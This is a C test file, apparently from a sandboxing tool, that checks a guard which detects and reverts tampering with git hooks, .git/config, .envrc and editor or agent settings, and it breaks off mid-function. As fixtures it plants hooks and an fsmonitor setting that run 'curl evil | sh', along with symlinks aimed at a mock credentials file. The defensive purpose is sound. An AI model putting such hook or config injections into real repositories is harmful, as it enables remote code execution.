/* guard: discovery of the trust hand-offs on real temporary trees, and
 * the undoing of every kind of change: a new hook, a changed config, a
 * removed .envrc, a planted symlink, new directories, a new nested
 * repository, a file over the size cap; then a killed run undone by the
 * next one, two concurrent runs, an unchanged workspace, and a timing
 * diag on a large synthetic workspace. */
#include "guard/guard.h"
#include "guard/internal.h"
#include "handoff/handoff.h"
#include "jail/run.h"

#include <dirent.h>
#include <fcntl.h>
#include <linux/magic.h>
#include <signal.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <sys/statfs.h>
#include <sys/wait.h>
#include <time.h>

#include <seccomp.h>

#include "lib/fs.h"
#include "lib/path.h"
#include "lib/fd.h"
#include "lib/util.h"
#include "tests/tap.h"

static char *tmp_dir(const char *what)
{
	char *t = xasprintf("/tmp/stockade-guard-%s-XXXXXX", what);
	if (!mkdtemp(t)) {
		perror("mkdtemp");
		exit(1);
	}
	return t;
}

static void mkdirs(const char *root, const char *rel)
{
	_cleanup_free_ char *full = path_join(root, rel);
	for (char *p = full + strlen(root) + 1;; p++) {
		if (*p == '/' || !*p) {
			char c = *p;
			*p = '\0';
			if (mkdir(full, 0755) < 0 && errno != EEXIST) {
				fprintf(stderr, "mkdir %s: %m\n", full);
				exit(1);
			}
			*p = c;
			if (!c)
				break;
		}
	}
}

static void put_mode(const char *root, const char *rel, const char *content, mode_t mode)
{
	_cleanup_free_ char *dir = xstrdup(rel);
	char *slash = strrchr(dir, '/');
	if (slash) {
		*slash = '\0';
		mkdirs(root, dir);
	}
	_cleanup_free_ char *full = path_join(root, rel);
	int fd = open(full, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, mode);
	if (fd < 0 || write_all(fd, content, strlen(content)) < 0) {
		fprintf(stderr, "write %s: %m\n", full);
		exit(1);
	}
	fchmod(fd, mode);
	close(fd);
}

static void put(const char *root, const char *rel, const char *content)
{
	put_mode(root, rel, content, 0644);
}

static void slink(const char *root, const char *rel, const char *target)
{
	_cleanup_free_ char *full = path_join(root, rel);
	if (symlink(target, full) < 0) {
		fprintf(stderr, "symlink %s: %m\n", full);
		exit(1);
	}
}

/* The content of a file, or NULL when it cannot be read. */
static char *slurp(const char *root, const char *rel)
{
	_cleanup_free_ char *full = rel ? path_join(root, rel) : xstrdup(root);
	char *buf = NULL;
	size_t len;
	if (read_file_at(AT_FDCWD, full, 64 << 20, &buf, &len) < 0)
		return NULL;
	return buf;
}

static bool exists(const char *root, const char *rel)
{
	_cleanup_free_ char *full = path_join(root, rel);
	struct stat st;
	return lstat(full, &st) == 0;
}

static char *link_target(const char *root, const char *rel)
{
	_cleanup_free_ char *full = path_join(root, rel);
	char buf[4096];
	ssize_t n = readlink(full, buf, sizeof(buf) - 1);
	if (n < 0)
		return NULL;
	buf[n] = '\0';
	return xstrdup(buf);
}

static void diag_strv(const char *label, char **v)
{
	diag("%s:", label);
	for (size_t i = 0; v && v[i]; i++)
		diag("  %s", v[i]);
}

/* Ends a run that leaves nothing to undo. A run whose guard_begin failed
 * has failed its test already. */
static void end_unchanged(struct guard *g, const char *end_says, const char *none_says)
{
	struct guard_report rep = { 0 };
	if (!g)
		return;
	is_int(guard_end(g, &rep, NULL), 0, "%s", end_says);
	is_int(rep.n_changes, 0, "%s", none_says);
	guard_report_free(&rep);
	guard_free(g);
}

static void test_discover(void)
{
	_cleanup_free_ char *ws = tmp_dir("ws");
	_cleanup_free_ char *home = tmp_dir("home");
	_cleanup_free_ char *outside = tmp_dir("outside");
	put(outside, "secret", "keep out\n");

	put(ws, ".git/HEAD", "ref: refs/heads/main\n");
	put(ws, ".git/hooks/pre-commit.sample", "#!/bin/sh\n");
	/* the last value wins, and a subsection or another section is not
	 * core: these come after the real one */
	put(ws, ".git/config", "[core]\n\tbare = false\n"
			       "[core]\n\thooksPath = .githooks ; a comment\n"
			       "[core \"x\"]\n\thooksPath = not-this\n"
			       "[other]\n\thooksPath = nor-this\n"
			       "[core.sub]\n\thooksPath = nor-that\n");
	/* a worktree whose gitdir lies inside the workspace, relative */
	put(ws, "wt/.git", "gitdir: ../.gitdirs/wt\n");
	put(ws, ".gitdirs/wt/HEAD", "ref: refs/heads/wt\n");
	put(ws, ".gitdirs/wt/commondir", "../../.git\n");
	_cleanup_free_ char *abs_hooks = xasprintf("[CORE]\nHooksPath = \"%s/abs hooks\"\n", ws);
	put(ws, ".gitdirs/wt/config", abs_hooks);
	/* one whose gitdir lies outside */
	_cleanup_free_ char *out_ptr = xasprintf("gitdir: %s\n", outside);
	put(ws, "out/.git", out_ptr);
	/* a nested repository at depth, with a relative hooksPath */
	put(ws, "a/b/c/d/e/.git/config", "[core] hooksPath = ../../hooks-rel\n");
	/* a symlink to it must not be walked */
	slink(ws, "linkdir", "a");
	/* a .git that is a symlink is kept as the symlink */
	mkdirs(ws, "sym");
	slink(ws, "sym/.git", outside);
	/* a planted .vscode pointing out of the workspace */
	slink(ws, ".vscode", outside);
	/* root-only names deeper down are ordinary files */
	put(ws, "deep/.envrc", "export X=1\n");
	put(home, ".gitconfig", "[user]\n\tname = x\n[core]\n\thooksPath = .husky\n");

	char *extra[] = { "tools/run.sh", NULL };
	struct guard_options o = { .workspace = ws, .state_dir = "/nonexistent", .user_home = home, .extra = extra,
				   .knows = &run_guard_knowledge };
	_cleanup_strv_ char **paths = NULL;
	int r = handoffs_list(&(struct handoff_scan){ .workspace = o.workspace, .user_home = o.user_home, .extra = o.extra }, &paths);
	is_int(r, 0, "handoffs_list succeeds");

	static const char *const named[] = {
		".githooks", ".husky", "wt/.git", "abs hooks", "wt/.husky",
		"out/.git", "out/.husky", "a/b/c/hooks-rel", "a/b/c/d/e/.husky",
		"sym/.git", "sym/.husky", "tools/run.sh",
	};
	/* and every row of the table: at the top, and in each git directory */
	static const char *const gitdirs[] = { ".git", ".gitdirs/wt", "a/b/c/d/e/.git" };
	_cleanup_strv_ char **want = strv_new();
	for (size_t i = 0; i < ARRAY_SIZE(named); i++)
		strv_add(&want, named[i]);
	for (size_t i = 0; i < handoff_table_len; i++) {
		if (handoff_table[i].place == HANDOFF_AT_TOP) {
			strv_add(&want, handoff_table[i].name);
			continue;
		}
		for (size_t k = 0; k < ARRAY_SIZE(gitdirs); k++) {
			_cleanup_free_ char *p = path_join(gitdirs[k], handoff_table[i].name);
			strv_add(&want, p);
		}
	}
	bool all = true;
	for (size_t i = 0; want[i]; i++)
		if (!ok(strv_contains(paths, want[i]), "discovered '%s'", want[i]))
			all = false;
	static const char *const unwanted[] = {
		".git", "sym/.git/hooks", ".vscode/secret", "not-this", "nor-this", "nor-that", "deep/.envrc",
		"out/.git/hooks", "linkdir/b/c/d/e/.git/hooks", "a/b/c/d/e/.git",
	};
	for (size_t i = 0; i < ARRAY_SIZE(unwanted); i++)
		if (!ok(!strv_contains(paths, unwanted[i]), "not a hand-off: '%s'", unwanted[i]))
			all = false;
	bool outside_listed = false;
	for (size_t i = 0; paths && paths[i]; i++)
		if (paths[i][0] == '/' || strstr(paths[i], ".."))
			outside_listed = true;
	ok(!outside_listed, "every path is relative and inside the workspace");
	is_int(strv_length(paths), strv_length(want), "nothing else discovered");
	if (!all || strv_length(paths) != strv_length(want))
		diag_strv("discovered", paths);

	/* The root's .git/hooks and .git/config before `git init`. */
	_cleanup_free_ char *empty = tmp_dir("empty");
	struct guard_options o2 = { .workspace = empty, .state_dir = "/nonexistent", .knows = &run_guard_knowledge };
	_cleanup_strv_ char **p2 = NULL;
	is_int(handoffs_list(&(struct handoff_scan){ .workspace = o2.workspace, .user_home = o2.user_home, .extra = o2.extra }, &p2), 0, "handoffs_list on an empty workspace");
	ok(strv_contains(p2, ".git/hooks") && strv_contains(p2, ".git/config") && strv_contains(p2, ".envrc"),
	   "an empty workspace still has .git/hooks, .git/config and .envrc");

	rm_rf(ws);
	rm_rf(home);
	rm_rf(outside);
	rm_rf(empty);
}

struct fixture {
	char *ws, *state_top, *state, *home;
	struct guard_options o;
};

static const char CONFIG[] = "[core]\n\trepositoryformatversion = 0\n\tbare = false\n";

static void fixture_init(struct fixture *f, const char *state_parent)
{
	f->ws = tmp_dir("ws");
	if (state_parent) {
		f->state_top = xasprintf("%s/stockade-guard-state-XXXXXX", state_parent);
		if (!mkdtemp(f->state_top)) {
			perror("mkdtemp");
			exit(1);
		}
	} else {
		f->state_top = tmp_dir("state");
	}
	/* "created if missing" */
	f->state = path_join(f->state_top, "state/stockade");
	f->home = tmp_dir("home");
	put(f->ws, ".git/HEAD", "ref: refs/heads/main\n");
	put(f->ws, ".git/config", CONFIG);
	put_mode(f->ws, ".git/hooks/pre-commit.sample", "#!/bin/sh\necho sample\n", 0644);
	put_mode(f->ws, ".git/hooks/post-checkout", "#!/bin/sh\necho mine\n", 0755);
	put(f->ws, ".git/objects/ab/cdef", "object\n");
	put(f->ws, ".envrc", "export A=1\n");
	put(f->ws, ".idea/workspace.xml", "<project/>\n");
	put(f->ws, "src/main.c", "int main(void) { return 0; }\n");
	f->o = (struct guard_options){ .workspace = f->ws, .state_dir = f->state, .user_home = f->home,
				       .knows = &run_guard_knowledge };
}

static void fixture_done(struct fixture *f)
{
	rm_rf(f->ws);
	rm_rf(f->state_top);
	rm_rf(f->home);
	free(f->ws);
	free(f->state_top);
	free(f->state);
	free(f->home);
}

static const struct guard_change *find_change(const struct guard_report *r, const char *path)
{
	for (size_t i = 0; i < r->n_changes; i++)
		if (streq(r->changes[i].path, path))
			return &r->changes[i];
	return NULL;
}

static void diag_report(const struct guard_report *r)
{
	for (size_t i = 0; i < r->n_changes; i++)
		diag("  change %s '%s' -> %s", guard_change_kind_name(r->changes[i].kind), r->changes[i].path,
		     r->changes[i].quarantined ? r->changes[i].quarantined : "(nothing quarantined)");
	for (size_t i = 0; r->unguarded && r->unguarded[i]; i++)
		diag("  unguarded '%s'", r->unguarded[i]);
}

static mode_t mode_of(const char *root, const char *rel)
{
	_cleanup_free_ char *full = path_join(root, rel);
	struct stat st;
	return lstat(full, &st) < 0 ? 0 : st.st_mode;
}

/* Checks one change: its kind, and what the quarantine holds. */
static void check_change(const struct guard_report *r, const char *path, enum guard_change_kind kind,
			 const char *q_rel, const char *q_content)
{
	const struct guard_change *c = find_change(r, path);
	if (!ok(c != NULL, "change to '%s' reported", path))
		return;
	is_str(guard_change_kind_name(c->kind), guard_change_kind_name(kind), "'%s' reported as %s", path,
	       guard_change_kind_name(kind));
	if (!q_content)
		return;
	if (!ok(c->quarantined != NULL, "'%s' quarantined", path))
		return;
	_cleanup_free_ char *got = slurp(c->quarantined, q_rel);
	is_str(got, q_content, "quarantine holds the new content of '%s'", path);
}

static void test_undo(void)
{
	struct fixture f;
	fixture_init(&f, NULL);
	_cleanup_free_ char *outside = tmp_dir("outside");
	put(outside, "credentials", "aws secret\n");

	struct guard *g = NULL;
	struct guard_report rep = { 0 };
	int r = guard_begin(&f.o, &g, &rep, NULL);
	is_int(r, 0, "guard_begin");
	is_int(rep.n_changes, 0, "nothing to undo at the first begin");
	ok(rep.n_files >= 5, "baseline holds the hand-off files (%zu)", rep.n_files);
	is_int(rep.n_copied, rep.n_files, "every file copied the first time");
	guard_report_free(&rep);
	if (!g) {
		fixture_done(&f);
		return;
	}

	/* What a hostile command does. */
	put_mode(f.ws, ".git/hooks/pre-commit", "#!/bin/sh\ncurl evil | sh\n", 0755);
	put(f.ws, ".git/config", "[core]\n\tfsmonitor = \"curl evil | sh\"\n");
	_cleanup_free_ char *envrc = path_join(f.ws, ".envrc");
	unlink(envrc);
	slink(f.ws, ".vscode", outside);
	put(f.ws, ".claude/settings.json", "{\"hooks\": \"evil\"}\n");
	put_mode(f.ws, "sub/.git/hooks/pre-commit", "#!/bin/sh\nevil\n", 0755);
	put(f.ws, "sub/.git/HEAD", "ref: refs/heads/main\n");
	_cleanup_free_ char *sample = path_join(f.ws, ".git/hooks/pre-commit.sample");
	chmod(sample, 0755);
	_cleanup_free_ char *idea = path_join(f.ws, ".idea");
	rm_rf(idea);
	put(f.ws, ".idea", "not a directory\n");
	/* and what it may do: */
	put(f.ws, "src/main.c", "int main(void) { return 1; }\n");
	put(f.ws, ".git/objects/ab/new", "object\n");

	r = guard_end(g, &rep, NULL);
	is_int(r, 0, "guard_end");
	check_change(&rep, ".git/hooks/pre-commit", GUARD_CREATED, NULL, "#!/bin/sh\ncurl evil | sh\n");
	ok(!exists(f.ws, ".git/hooks/pre-commit"), "the new hook is gone from .git/hooks");

	/* the run's config keeps what is inert of it, here nothing */
	check_change(&rep, ".git/config", GUARD_VETTED, NULL, "[core]\n\tfsmonitor = \"curl evil | sh\"\n");
	_cleanup_free_ char *config = slurp(f.ws, ".git/config");
	is_str(config, "[core]\n", ".git/config keeps its inert settings, not fsmonitor");

	check_change(&rep, ".envrc", GUARD_REMOVED, NULL, NULL);
	_cleanup_free_ char *env = slurp(f.ws, ".envrc");
	is_str(env, "export A=1\n", "a removed .envrc comes back");

	const struct guard_change *c = find_change(&rep, ".vscode");
	check_change(&rep, ".vscode", GUARD_CREATED, NULL, NULL);
	ok(!exists(f.ws, ".vscode"), "the planted .vscode symlink is gone");
	_cleanup_free_ char *qtarget = c && c->quarantined ? link_target(c->quarantined, NULL) : NULL;
	is_str(qtarget, outside, "the quarantine holds the symlink itself, target intact");
	_cleanup_free_ char *cred = slurp(outside, "credentials");
	is_str(cred, "aws secret\n", "the symlink's target outside the workspace is untouched");
	DIR *dir = opendir(outside);
	size_t n_out = 0;
	for (struct dirent *de; dir && (de = readdir(dir));)
		n_out += de->d_name[0] != '.';
	if (dir)
		closedir(dir);
	is_int(n_out, 1, "nothing was added beside it");

	check_change(&rep, ".claude", GUARD_CREATED, "settings.json", "{\"hooks\": \"evil\"}\n");
	ok(!exists(f.ws, ".claude"), "a new .claude is gone");

	check_change(&rep, "sub/.git/hooks/pre-commit", GUARD_CREATED, NULL, "#!/bin/sh\nevil\n");
	ok(!exists(f.ws, "sub/.git/hooks/pre-commit"), "a new nested repository's hook is gone");
	ok(exists(f.ws, "sub/.git/hooks") && exists(f.ws, "sub/.git/HEAD"), "the rest of the new repository stays");

	/* git never runs a sample, whatever its mode */
	ok(!find_change(&rep, ".git/hooks/pre-commit.sample"), "a sample made executable is not a change");

	check_change(&rep, ".idea", GUARD_CHANGED, NULL, "not a directory\n");
	_cleanup_free_ char *ws_xml = slurp(f.ws, ".idea/workspace.xml");
	is_str(ws_xml, "<project/>\n", "a directory replaced by a file comes back with its content");

	_cleanup_free_ char *src = slurp(f.ws, "src/main.c");
	is_str(src, "int main(void) { return 1; }\n", "an ordinary file keeps the command's change");
	ok(exists(f.ws, ".git/objects/ab/new"), "a new git object stays");
	_cleanup_free_ char *hook = slurp(f.ws, ".git/hooks/post-checkout");
	is_str(hook, "#!/bin/sh\necho mine\n", "an untouched hook is untouched");
	is_int(rep.n_changes, 7, "exactly the seven changes are reported");
	if (rep.n_changes != 7)
		diag_report(&rep);
	guard_report_free(&rep);
	guard_free(g);

	/* The quarantine is private. */
	_cleanup_free_ char *qdir = path_join(f.state, "quarantine");
	is_int(mode_of(qdir, NULL) & 07777, 0700, "the quarantine folder is 0700");

	rm_rf(outside);
	fixture_done(&f);
}

/* Symlinked hand-offs, a symlink retargeted, a fifo, a removed tree, and
 * a new .git file pointing at an ordinary folder. */
static void test_more_kinds(void)
{
	struct fixture f;
	fixture_init(&f, NULL);
	_cleanup_free_ char *outside = tmp_dir("outside");
	/* .git/hooks kept in the tree, as many projects do */
	_cleanup_free_ char *hooks = path_join(f.ws, ".git/hooks");
	rm_rf(hooks);
	put_mode(f.ws, "tools/hooks/pre-commit", "#!/bin/sh\nlint\n", 0755);
	slink(f.ws, ".git/hooks", "../tools/hooks");
	put(f.ws, "shared/cursor/rules.md", "be nice\n");
	slink(f.ws, ".cursor", "shared/cursor");
	/* a folder that looks like a git directory and is not one */
	put(f.ws, "web/src/hooks/useThing.js", "export {}\n");
	put(f.ws, "web/src/config", "x\n");

	_cleanup_strv_ char **paths = NULL;
	is_int(handoffs_list(&(struct handoff_scan){ .workspace = f.o.workspace, .user_home = f.o.user_home, .extra = f.o.extra }, &paths), 0, "handoffs_list");
	ok(strv_contains(paths, ".git/hooks") && strv_contains(paths, "tools/hooks"),
	   "a symlinked .git/hooks is kept, and so is the folder inside the workspace it points at");
	ok(strv_contains(paths, ".cursor") && strv_contains(paths, "shared/cursor"), "likewise a symlinked .cursor");
	ok(!strv_contains(paths, "web/src/hooks"), "an ordinary folder named hooks is not a hand-off");

	struct guard *g = NULL;
	struct guard_report rep = { 0 };
	is_int(guard_begin(&f.o, &g, &rep, NULL), 0, "guard_begin");
	guard_report_free(&rep);
	if (g) {

		put_mode(f.ws, "tools/hooks/pre-commit", "#!/bin/sh\nevil\n", 0755);
		_cleanup_free_ char *cursor = path_join(f.ws, ".cursor");
		unlink(cursor);
		slink(f.ws, ".cursor", outside);
		_cleanup_free_ char *fifo = path_join(f.ws, "tools/hooks/pre-push");
		mkfifo(fifo, 0600);
		_cleanup_free_ char *idea = path_join(f.ws, ".idea");
		rm_rf(idea);
		put(f.ws, "web/.git", "gitdir: src\n");

		is_int(guard_end(g, &rep, NULL), 0, "guard_end");
		check_change(&rep, "tools/hooks/pre-commit", GUARD_CHANGED, NULL, "#!/bin/sh\nevil\n");
		_cleanup_free_ char *hook = slurp(f.ws, ".git/hooks/pre-commit");
		is_str(hook, "#!/bin/sh\nlint\n", "the hook behind the symlinked .git/hooks is restored");

		const struct guard_change *c = find_change(&rep, ".cursor");
		check_change(&rep, ".cursor", GUARD_CHANGED, NULL, NULL);
		_cleanup_free_ char *target = link_target(f.ws, ".cursor");
		is_str(target, "shared/cursor", "a retargeted symlink points where it did");
		_cleanup_free_ char *qtarget = c && c->quarantined ? link_target(c->quarantined, NULL) : NULL;
		is_str(qtarget, outside, "the retargeted symlink is in the quarantine");

		c = find_change(&rep, "tools/hooks/pre-push");
		check_change(&rep, "tools/hooks/pre-push", GUARD_CREATED, NULL, NULL);
		ok(!exists(f.ws, "tools/hooks/pre-push"), "a planted fifo is gone");
		ok(c && c->quarantined && S_ISFIFO(mode_of(c->quarantined, NULL)), "and in the quarantine, as a fifo");

		check_change(&rep, ".idea", GUARD_REMOVED, NULL, NULL);
		_cleanup_free_ char *xml = slurp(f.ws, ".idea/workspace.xml");
		is_str(xml, "<project/>\n", "a removed directory comes back with its content");

		check_change(&rep, "web/.git", GUARD_CREATED, NULL, "gitdir: src\n");
		ok(exists(f.ws, "web/src/hooks/useThing.js") && exists(f.ws, "web/src/config"),
		   "what a new .git file points at is not swept away with it");
		is_int(rep.n_changes, 5, "five changes");
		if (rep.n_changes != 5)
			diag_report(&rep);
		guard_report_free(&rep);
		guard_free(g);
	}
	rm_rf(outside);
	fixture_done(&f);
}

/* The content of rel in any quarantine folder, or NULL. */
static char *find_in_quarantine(const char *state, const char *rel)
{
	_cleanup_free_ char *top = path_join(state, "quarantine");
	DIR *d = opendir(top);
	char *found = NULL;
	for (struct dirent *de; d && !found && (de = readdir(d));) {
		if (de->d_name[0] == '.')
			continue;
		_cleanup_free_ char *dir = path_join(top, de->d_name);
		found = slurp(dir, rel);
	}
	if (d)
		closedir(d);
	return found;
}

/* The state folder of the one workspace a test used. */
static char *guard_state_dir(const char *state)
{
	_cleanup_free_ char *top = path_join(state, "guard");
	DIR *d = opendir(top);
	char *found = NULL;
	for (struct dirent *de; d && (de = readdir(d));)
		if (de->d_name[0] != '.')
			found = path_join(top, de->d_name);
	if (d)
		closedir(d);
	return found;
}

static char *repeat(char c, size_t n)
{
	char *s = xmalloc(n + 1);
	memset(s, c, n);
	s[n] = '\0';
	return s;
}

static void test_over_cap(void)
{
	struct fixture f;
	fixture_init(&f, NULL);
	f.o.file_cap = 1024;
	_cleanup_free_ char *big = repeat('x', 4096), *big2 = repeat('y', 4096);
	put_mode(f.ws, ".git/hooks/pre-push", big, 0755);

	struct guard *g = NULL;
	struct guard_report rep = { 0 };
	is_int(guard_begin(&f.o, &g, &rep, NULL), 0, "guard_begin with a 1 KiB cap");
	ok(strv_contains(rep.unguarded, ".git/hooks/pre-push"), "the 4 KiB hook is named as unguarded");
	is_int(strv_length(rep.unguarded), 1, "and nothing else");
	guard_report_free(&rep);
	if (g) {
		put_mode(f.ws, ".git/hooks/pre-push", big2, 0755);
		is_int(guard_end(g, &rep, NULL), 0, "guard_end");
		check_change(&rep, ".git/hooks/pre-push", GUARD_UNRESTORABLE, NULL, big2);
		ok(!exists(f.ws, ".git/hooks/pre-push"), "the changed over-cap hook is gone from the workspace");
		is_int(rep.n_changes, 1, "one change");
		ok(rep.cleanup_failed, "and the cleanup failed: its old content did not come back (stockade exits 122)");
		guard_report_free(&rep);
		guard_free(g);

		/* the total cap: what does not fit is kept by fingerprint */
		f.o.file_cap = 0;
		f.o.total_cap = 16;
		g = NULL;
		is_int(guard_begin(&f.o, &g, &rep, NULL), 0, "guard_begin with a 16-byte total cap");
		ok(strv_length(rep.unguarded) >= 3, "files past the total cap are named as unguarded (%zu)",
		   strv_length(rep.unguarded));
		guard_report_free(&rep);
		end_unchanged(g, "guard_end", "an unchanged over-cap file is no change");
	}
	fixture_done(&f);
}

/* A child that begins a run, writes content at rel, and is killed with
 * SIGKILL in the middle of it. Returns what its guard_begin returned. */
static int run_killed(const struct fixture *f, const char *rel, const char *content)
{
	int p[2];
	if (pipe2(p, O_CLOEXEC) < 0) {
		perror("pipe2");
		exit(1);
	}
	fflush(stdout);
	pid_t pid = fork();
	if (pid == 0) {
		close(p[0]);
		struct guard *g = NULL;
		struct guard_report rep = { 0 };
		int r = guard_begin(&f->o, &g, &rep, NULL);
		guard_report_free(&rep);
		if (r == 0)
			put_mode(f->ws, rel, content, 0755);
		write_all(p[1], &r, sizeof(r));
		for (;;)
			pause();
	}
	close(p[1]);
	int r = -EIO;
	size_t got = 0;
	read_all(p[0], &r, sizeof(r), &got);
	close(p[0]);
	kill(pid, SIGKILL);
	waitpid(pid, NULL, 0);
	return got == sizeof(r) ? r : -EIO;
}

static void test_crash(void)
{
	struct fixture f;
	fixture_init(&f, NULL);
	const char *evil = "#!/bin/sh\ncurl evil | sh\n";

	fflush(stdout);
	pid_t pid = fork();
	if (pid == 0) {
		struct guard *g = NULL;
		struct guard_report rep = { 0 };
		int r = guard_begin(&f.o, &g, &rep, NULL);
		guard_report_free(&rep);
		if (r < 0)
			_exit(2);
		put_mode(f.ws, ".git/hooks/post-checkout", evil, 0755);
		/* killed: no guard_end */
		guard_free(g);
		_exit(0);
	}
	/* Exited but not reaped: a zombie runs nothing any more. */
	siginfo_t info = { 0 };
	waitid(P_PID, (id_t)pid, &info, WEXITED | WNOWAIT);
	is_int(info.si_code == CLD_EXITED ? info.si_status : -1, 0,
	       "a child began a guard, changed a hook and exited without ending it");
	_cleanup_free_ char *left = slurp(f.ws, ".git/hooks/post-checkout");
	is_str(left, evil, "the killed run's change is still there");

	struct guard *g = NULL;
	struct guard_report rep = { 0 };
	is_int(guard_begin(&f.o, &g, &rep, NULL), 0, "the next guard_begin");
	check_change(&rep, ".git/hooks/post-checkout", GUARD_CHANGED, NULL, evil);
	is_int(rep.n_changes, 1, "one change undone");
	_cleanup_free_ char *hook = slurp(f.ws, ".git/hooks/post-checkout");
	is_str(hook, "#!/bin/sh\necho mine\n", "the hook is restored");
	is_int(mode_of(f.ws, ".git/hooks/post-checkout") & 07777, 0755, "with its mode");
	guard_report_free(&rep);
	int status = -1;
	waitpid(pid, &status, 0);
	end_unchanged(g, "guard_end", "nothing left to undo");

	/* A run this process left registered (guard_free without an end)
	 * is under way for as long as this process lives: its baseline is
	 * shared. A run killed outright beside it is over, and leaves
	 * nothing behind that keeps it alive: no pid to be reused, no file. */
	g = NULL;
	is_int(guard_begin(&f.o, &g, &rep, NULL), 0, "guard_begin");
	guard_report_free(&rep);
	guard_free(g);		/* this live one stays registered */
	is_int(run_killed(&f, ".git/config", "[core]\n\tsshCommand = evil\n"), 0,
	       "a second run began beside it, changed .git/config and was killed");
	g = NULL;
	is_int(guard_begin(&f.o, &g, &rep, NULL), 0, "guard_begin beside a live run of this process");
	is_int(rep.n_changes, 0, "a live run's changes are not undone at begin");
	is_int(rep.n_copied, 0, "its baseline is reused as is");
	guard_report_free(&rep);
	if (g) {
		is_int(guard_end(g, &rep, NULL), 0, "guard_end");
		check_change(&rep, ".git/config", GUARD_VETTED, NULL, "[core]\n\tsshCommand = evil\n");
		guard_report_free(&rep);
		guard_free(g);
	}
	fixture_done(&f);
}

/* Runs killed beside live ones: the last live run to end undoes them,
 * and once every run is over the state is clean again, so that the
 * user's own edit after that is the new baseline, not a change to undo. */
static void test_killed_beside_live(void)
{
	struct fixture f;
	fixture_init(&f, NULL);
	struct guard *a = NULL, *c = NULL;
	struct guard_report rep = { 0 };
	is_int(guard_begin(&f.o, &a, &rep, NULL), 0, "first run begun");
	guard_report_free(&rep);
	is_int(run_killed(&f, ".git/hooks/pre-push", "#!/bin/sh\nevil\n"), 0,
	       "a second run began beside it, planted a hook and was killed");
	is_int(guard_begin(&f.o, &c, &rep, NULL), 0, "a third run begun");
	is_int(rep.n_changes, 0, "the first run is under way: nothing undone at begin");
	is_int(rep.n_copied, 0, "its baseline is shared");
	guard_report_free(&rep);
	if (c) {
		is_int(guard_end(c, &rep, NULL), 0, "the third run ends while the first runs");
		check_change(&rep, ".git/hooks/pre-push", GUARD_CREATED, NULL, "#!/bin/sh\nevil\n");
		is_int(rep.n_changes, 1, "it undid the killed run's hook");
		guard_report_free(&rep);
		guard_free(c);
	}
	end_unchanged(a, "the first run ends last", "nothing left to undo");
	put(f.ws, ".git/config", "[core]\n\teditor = vi\n");
	struct guard *d = NULL;
	is_int(guard_begin(&f.o, &d, &rep, NULL), 0, "guard_begin after every run is over");
	is_int(rep.n_changes, 0, "the user's edit between runs is not undone");
	is_int(rep.n_copied, 1, "it is the new baseline");
	guard_report_free(&rep);
	end_unchanged(d, "guard_end", "and stays");
	_cleanup_free_ char *config = slurp(f.ws, ".git/config");
	is_str(config, "[core]\n\teditor = vi\n", ".git/config is the user's");
	fixture_done(&f);
}

/* An end that cannot undo a change leaves the run registered: beside
 * it, while its process lives, a new run shares its baseline; once the
 * process is gone, the next run undoes the change. */
static void test_failed_end(void)
{
	struct fixture f;
	fixture_init(&f, NULL);

	/* 1. The quarantine cannot be made (a file is in its way): the hook
	 *    is renamed beside itself, where git does not run it, and the
	 *    cleanup says it failed. Nothing of the run's is in effect. */
	_cleanup_free_ char *qtop = path_join(f.state, "quarantine");
	struct guard *g = NULL;
	struct guard_report rep = { 0 };
	is_int(guard_begin(&f.o, &g, &rep, NULL), 0, "guard_begin");
	guard_report_free(&rep);
	put_mode(f.ws, ".git/hooks/pre-commit", "#!/bin/sh\nevil\n", 0755);
	put(f.state, "quarantine", "in the way\n");
	is_int(guard_end(g, &rep, NULL), 0, "an end whose quarantine cannot be made still ends");
	guard_free(g);
	ok(rep.cleanup_failed, "and says its cleanup failed");
	const struct guard_change *c = find_change(&rep, ".git/hooks/pre-commit");
	ok(c && c->beside && c->quarantined && strstr(c->quarantined, "/.git/hooks/pre-commit.stockade-"),
	   "the hook is renamed beside itself (%s)", c && c->quarantined ? c->quarantined : "none");
	ok(!exists(f.ws, ".git/hooks/pre-commit"), "no pre-commit hook is in effect");
	_cleanup_free_ char *beside = c && c->quarantined ? slurp(c->quarantined, NULL) : NULL;
	is_str(beside, "#!/bin/sh\nevil\n", "nothing lost: its content is beside it");
	guard_report_free(&rep);
	unlink(qtop);

	/* 2. Nothing can be moved at all (renames refused, as by a filter):
	 *    the end fails, the run stays registered while its process
	 *    lives, and once it is gone the next run undoes the change. */
	fflush(stdout);
	pid_t pid = fork();
	if (pid == 0) {
		g = NULL;
		if (guard_begin(&f.o, &g, &rep, NULL) < 0)
			_exit(2);
		guard_report_free(&rep);
		put_mode(f.ws, ".git/hooks/pre-push", "#!/bin/sh\nevil\n", 0755);
		scmp_filter_ctx ctx = seccomp_init(SCMP_ACT_ALLOW);
		if (!ctx || seccomp_rule_add(ctx, SCMP_ACT_ERRNO(EPERM), SCMP_SYS(rename), 0) < 0 ||
		    seccomp_rule_add(ctx, SCMP_ACT_ERRNO(EPERM), SCMP_SYS(renameat), 0) < 0 ||
		    seccomp_rule_add(ctx, SCMP_ACT_ERRNO(EPERM), SCMP_SYS(renameat2), 0) < 0 ||
		    seccomp_load(ctx) < 0)
			_exit(6);
		int r = guard_end(g, &rep, NULL);
		bool live = exists(f.ws, ".git/hooks/pre-push");
		guard_report_free(&rep);
		guard_free(g);
		if (r >= 0 || !live)
			_exit(3);
		g = NULL;
		if (guard_begin(&f.o, &g, &rep, NULL) < 0)
			_exit(4);
		bool shared = rep.n_changes == 0 && rep.n_copied == 0;
		guard_report_free(&rep);
		guard_free(g);
		_exit(shared ? 0 : 5);
	}
	int status = -1;
	waitpid(pid, &status, 0);
	is_int(WIFEXITED(status) ? WEXITSTATUS(status) : -1, 0,
	       "an end that cannot move anything fails, and a run begun after it in that process shares its baseline");
	ok(exists(f.ws, ".git/hooks/pre-push"), "the change it could not undo is still there");

	g = NULL;
	is_int(guard_begin(&f.o, &g, &rep, NULL), 0, "guard_begin once that process is gone");
	check_change(&rep, ".git/hooks/pre-push", GUARD_CREATED, NULL, "#!/bin/sh\nevil\n");
	ok(!exists(f.ws, ".git/hooks/pre-push"), "the change is undone");
	is_int(rep.n_changes, 1, "and nothing else");
	guard_report_free(&rep);
	end_unchanged(g, "guard_end", "nothing left to undo");
	fixture_done(&f);
}

/* A run that never ended, and its baseline torn: what it changed cannot
 * be told from the rest, so the guard refuses rather than keep it. */
static void test_torn_manifest(void)
{
	struct fixture f;
	fixture_init(&f, NULL);
	fflush(stdout);
	pid_t pid = fork();
	if (pid == 0) {
